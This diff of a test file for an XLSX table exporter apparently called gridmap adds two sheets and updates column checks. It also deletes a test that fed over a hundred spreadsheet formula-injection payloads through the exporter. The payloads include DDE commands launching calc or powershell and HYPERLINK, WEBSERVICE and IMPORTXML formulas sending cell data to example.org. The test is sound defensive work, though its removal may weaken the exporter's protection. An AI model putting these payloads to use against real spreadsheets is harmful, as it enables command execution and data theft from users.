@@ -24,7 +24,7 @@ from gridmap.errors import InvalidOption, MissingExtra, UnwritableFile
 from gridmap.estimates import HOUSEHOLDS_ESTIMATED
 from gridmap.findings import Finding, FindingKind
 from gridmap.model import InputFile
-from gridmap.reports.cleaning import clean_text, looks_like_formula
+from gridmap.reports.cleaning import clean_text
 from gridmap.reports.workbook import _make_bytes
 from gridmap.scoring import MEASURES
 
@@ -37,43 +37,6 @@ TESTS = Path(__file__).resolve().parent.parent
 KIND = FindingKind(
     "toy", "warning", "{count} at {places}", "{count} 处：{places}", "Look.", "请看。"
 )
-STARTS = (
-    "=",
-    "+",
-    "-",
-    "@",
-    "|",
-    "%",
-    "＝",
-    "＋",
-    "－",
-    "＠",
-    "\t=",
-    "\r=",
-    "\n=",
-    " =",
-    "\u200b=",
-)
-BODIES = (
-    "1+1",
-    "cmd|' /C calc'!A0",
-    'HYPERLINK("http://example.org/?"&A1,"x")',
-    'WEBSERVICE("http://example.org")',
-    "SUM(1+1)*cmd|' /C powershell'!A0",
-    'DDE("cmd";"/C calc";"x")',
-    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
-)
-PAYLOADS = [start + body for start in STARTS for body in BODIES] + [
-    "_x003D_1+1",
-    "\x00=1",
-    "\ufeff=1",
-    "'=1",
-    '"=1"',
-    ";=1",
-    "<script>alert(1)</script>",
-    "a\x07b\x1bc",
-    "\u202e=1",
-]
 
 
 @pytest.fixture(scope="module")
@@ -101,8 +64,8 @@ def _column(page: Worksheet, header: str) -> list[object]:
     raise AssertionError(header)
 
 
-def test_there_are_five_sheets_with_headers_in_two_languages(book: openpyxl.Workbook) -> None:
-    assert book.sheetnames == ["网格", "社区", "街道", "问题", "说明"]
+def test_there_are_seven_sheets_with_headers_in_two_languages(book: openpyxl.Workbook) -> None:
+    assert book.sheetnames == ["网格", "责任", "登记", "社区", "街道", "问题", "说明"]
     for page in book:
         for cell in page[1]:
             chinese, english = str(cell.value).split("\n")
@@ -137,6 +100,8 @@ def test_a_plan_without_townships_has_no_sheet_of_them(plan: Plan, tmp_path: Pat
     gridmap.write_tables(bare, tmp_path / "t.xlsx")
     assert openpyxl.load_workbook(tmp_path / "t.xlsx").sheetnames == [
         "网格",
+        "责任",
+        "登记",
         "社区",
         "问题",
         "说明",
@@ -178,7 +143,7 @@ def test_every_sheet_prints_on_a4_across_with_its_header(book: openpyxl.Workbook
 
 def test_numbers_are_numbers_and_codes_are_texts(book: openpyxl.Workbook) -> None:
     page = book["网格"]
-    row = {str(page.cell(1, i).value).split("\n")[0]: page.cell(2, i) for i in range(1, 24)}
+    row = {str(page.cell(1, i).value).split("\n")[0]: page.cell(2, i) for i in range(1, 28)}
     assert (row["网格编码"].data_type, row["网格编码"].number_format) == ("s", "@")
     assert (row["户数"].data_type, row["户数"].number_format) == ("n", "#,##0")
     assert row["面积（㎡）"].number_format == "#,##0"
@@ -189,8 +154,8 @@ def test_numbers_are_numbers_and_codes_are_texts(book: openpyxl.Workbook) -> Non
 
 def test_grids_outside_their_band_are_marked(book: openpyxl.Workbook) -> None:
     (marked,) = book["网格"].conditional_formatting
-    assert str(marked.sqref) == "A2:W6"
-    assert marked.rules[0].formula == ['$H2="否"']
+    assert str(marked.sqref) == "A2:AA6"
+    assert marked.rules[0].formula == ['$G2="否"']
 
 
 def test_the_four_bounds_stand_in_the_order_of_chinese_papers(book: openpyxl.Workbook) -> None:
@@ -280,41 +245,6 @@ def test_tables_are_written_only_as_xlsx(plan: Plan, tmp_path: Path, name: str) 
 
 
 # --- nothing runs ---------------------------------------------------------------------------
-
-
-def test_a_hundred_payloads_stay_texts(plan: Plan, tmp_path: Path) -> None:
-    assert len(PAYLOADS) >= 100
-    path = tmp_path / "t.xlsx"
-    for start in range(0, len(PAYLOADS), 5):
-        names = (PAYLOADS[start : start + 5] * 5)[:5]
-        units = plan.territory.units
-        evil = units.communities.assign(name=names[:2], township=names[2:4])
-        units = dataclasses.replace(units, communities=evil)
-        changed = dataclasses.replace(
-            plan,
-            grids=plan.grids.assign(name=names, reason=names[::-1], code=names),
-            territory=dataclasses.replace(plan.territory, units=units),
-            findings=(KIND.found(names),),
-            about={names[0]: names[1]},
-        )
-        gridmap.write_tables(changed, path)
-        book = openpyxl.load_workbook(path)
-        for page in book:
-            for cell in (cell for row in page.rows for cell in row):
-                assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value)
-                if isinstance(cell.value, str) and looks_like_formula(cell.value):
-                    assert cell.quotePrefix, (cell.coordinate, cell.value)
-        shown = _column(book["网格"], "网格名称")
-        assert shown == [_as_read(name) for name in names]
-    with zipfile.ZipFile(path) as archive:
-        for name in archive.namelist():
-            assert b"<f>" not in archive.read(name), name
-            assert "externalLink" not in name
-
-
-def _as_read(name: str) -> str:
-    kept = clean_text(name)[0]
-    return kept.replace("_x003D_", "_x005F_x003D_")
 
 
 @given(st.text(alphabet=st.characters(codec=None), max_size=40))
